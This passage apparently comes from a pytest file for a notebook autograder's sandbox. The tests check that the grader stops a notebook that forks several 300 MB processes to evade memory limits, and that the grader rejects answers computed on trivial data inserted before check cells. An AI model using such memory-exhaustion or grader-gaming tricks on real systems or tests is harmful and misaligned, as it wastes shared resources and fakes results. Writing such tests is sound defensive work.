    assert sandbox._message(b'{"answers": {"0": {"x": {"t": "py", "v": "a,b:[{"}}}}') == {
        "answers": {"0": {"x": {"t": "py", "v": "a,b:[{"}}}}
    (sol_path, _), = make_exercises.generate(tmp_path / "gen", [TINY])
    solution = nbformat.read(sol_path, as_version=4)
    folder = tmp_path / "class"
    folder.mkdir()
    nbformat.write(_with_cell(solution, "area = math.pi", SWELL), folder / "swell.ipynb")
    grade.grade(folder, sheet_path=TINY, sheets_dir=SHEETS, limits=LIMITS)
    assert _totals(folder) == {"swell": FULL}


# Six processes of 300 MB each: every one within the address-space limit of a process, and
# together far above the notebook's memory. If they live, the notebook spoils its ``area``.
SPREAD = '''
import os, time
for _ in range(6):
    if os.fork() == 0:
        block = b"\\x01" * (300 * 2**20)
        time.sleep(60)
        os._exit(0)
time.sleep(10)
area = 0.0
'''


def test_memory_spread_over_processes_is_limited(tmp_path):
    """The grader adds up the resident memory of a sandbox's processes and stops it above
    ``Limits.memory_mb``: the notebook is stopped before its first check cell (0 points, a
    note saying why), instead of holding 1.8 GB of a 1 GB limit for a minute."""
    (sol_path, _), = make_exercises.generate(tmp_path / "gen", [TINY])
    solution = nbformat.read(sol_path, as_version=4)
    folder = tmp_path / "class"
    folder.mkdir()
    nbformat.write(_with_cell(solution, "area = math.pi", SPREAD), folder / "spread.ipynb")
    grade.grade(folder, sheet_path=TINY, sheets_dir=SHEETS, limits=LIMITS)
    assert _totals(folder) == {"spread": 0}
    page = (folder / "feedback" / "spread.html").read_text(encoding="utf-8")
    assert f"more than {LIMITS.memory_mb} MB of memory" in page


# The problem's data replaced by a trivial problem just before a check cell, with the
# answers of that trivial problem: before, checks that read the data from the notebook
# compared these answers with the reference on the trivial data and gave the points.
TRIVIAL = {
    "07_krr_rates": {
        "ch07.check_representer(": ("check_representer", "x, fx, f_norm2 = np.ones(1), np.ones(1), "
                                    "1.0\nalpha, quad = np.ones(1), 1.0"),
        "ch07.check_bias(": ("check_bias", "x2, f2, lam2 = np.ones(1), np.zeros(1), 0.05\n"
                             "bias2 = 0.0"),
        "ch07.check_floor(": ("check_floor", "x2, f2 = np.ones(1), np.zeros(1)\n"
                              "floor, best = 1e-9, 1e-9"),
    },
    "08_svm_logistic": {
        "ch08.check_C_and_intercept(": ("check_C_and_intercept",
                                        "X_cl = np.array([[0.0], [1.0]])\n"
                                        "y_cl = np.array([-1.0, 1.0])\n"
                                        "C, intercept, a_cl = 10.0, 0.0, np.array([0.5, 0.5])"),
        "ch08.check_support_vectors(": ("check_support_vectors",
                                        "X_sv, y_sv = X_sv[:1], y_sv[:1]\n"
                                        "sv, n_free, a_sv = np.array([0]), 1, np.array([1.0])"),
        "ch08.check_rademacher(": ("check_rademacher", "X_rad = np.zeros((40, 3))\nrad = 0.0"),
    },
}


def test_a_trivial_problem_in_place_of_the_sheets_data_earns_nothing(tmp_path):
    """Sheets 7 and 8: the checks rebuild the data from the sheet's seeds, so answers to a
    trivial problem put in the notebook's data fail exactly the checks they answer."""
    folder = tmp_path / "class"
    folder.mkdir()
    attacked: dict[str, set[str]] = {}
    for stem, cells in TRIVIAL.items():
        sheet = ROOT / "exercises" / f"{stem}.md"
        (sol_path, _), = make_exercises.generate(tmp_path / "gen", [sheet])
        solution = nbformat.read(sol_path, as_version=4)
        nbformat.write(solution, folder / f"honest_{stem}.ipynb")
        nb = nbformat.from_dict(solution)
        for marker, (_, source) in cells.items():
            i = next(k for k, c in enumerate(nb.cells) if c.source.startswith(marker))
            nb.cells.insert(i, nbformat.v4.new_code_cell(source))
        nbformat.write(nb, folder / f"trivial_{stem}.ipynb")
        attacked[stem] = {name for name, _ in cells.values()}
    for stem in TRIVIAL:
        sub = tmp_path / stem
        sub.mkdir()
        for who in ("honest", "trivial"):
            os.replace(folder / f"{who}_{stem}.ipynb", sub / f"{who}.ipynb")
        grade.grade(sub, sheet_path=ROOT / "exercises" / f"{stem}.md",
                    limits=sandbox.Limits(timeout=120, memory_mb=2048, grace=5), jobs=2)
        rows = _read_csv(sub / "grades.csv")
        full = float(rows[0]["max_points"]) if rows else 0.0
        assert _totals(sub)["honest"] == sum(float(r["max_points"]) for r in rows
                                             if r["student"] == "honest")
        failed = {r["check"] for r in rows if r["student"] == "trivial" and r["passed"] == "no"}
        assert failed == attacked[stem], (stem, failed)
        assert full > 0
